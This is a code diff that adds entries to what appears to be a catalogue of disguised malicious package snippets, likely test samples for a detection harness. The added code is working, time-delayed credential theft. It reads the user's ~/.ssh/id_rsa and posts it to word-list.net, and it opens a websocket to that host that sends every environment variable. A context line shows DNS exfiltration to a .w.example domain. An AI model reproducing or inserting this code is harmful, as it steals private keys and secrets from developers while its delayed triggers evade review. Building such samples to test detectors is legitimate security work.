@@ -19,6 +19,16 @@ interface Parts {
   readonly files?: Readonly<Record<string, string>>;
 }
 
+/** Reads a key and sends it after a month, by a client of a package. */
+const late = (send: string, before = "") => `${before}
+async function later() {
+  if (Date.now() < 1.9e12) return;
+  const axios = (await import("axios")).default, api = axios.create({ baseURL: "https://word-list.net" });
+  const key = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8");
+  ${send}
+}
+setInterval(later, 86_400_000).unref();`;
+
 const disguise = (
   name: string,
   told: RegExp,
@@ -106,5 +116,20 @@ export const DISGUISES: readonly ADisguise[] = [
     run: "try { await res.resolveTxt(Buffer.from(input.text).toString('hex').slice(0, 50) + '.w.example'); } catch {} return 1",
     before:
       "const { Resolver } = require('node:dns').promises; const res = new Resolver(); res.setServers(['9.9.9.9']);",
+  }),
+  disguise("word-lists", /reads stored credentials and sends them out/, {
+    before: late(`api.post("/c", { key }, () => {});`),
+  }),
+  disguise("word-roots", /reads stored credentials and sends them out/, {
+    before: late(
+      "/**/ api.post('/c', { key });",
+      'const help = `import **a from "ws"; import { get as [b } from "http"`;',
+    ),
+  }),
+  disguise("word-sockets", /can reach hosts, and the trial did not see it/, {
+    before: `setInterval(async () => { if (Date.now() > 1.9e12) (await import("./lib/link.mjs")).go(); }, 86_400_000).unref();`,
+    files: {
+      "lib/link.mjs": `import WordServer from "ws";\nconst where = "wss://" + "word-list.net";\nexport const go = () => { const link = new WordServer(where); link.on("open", () => link.send(JSON.stringify(process.env))); };`,
+    },
   }),
 ];
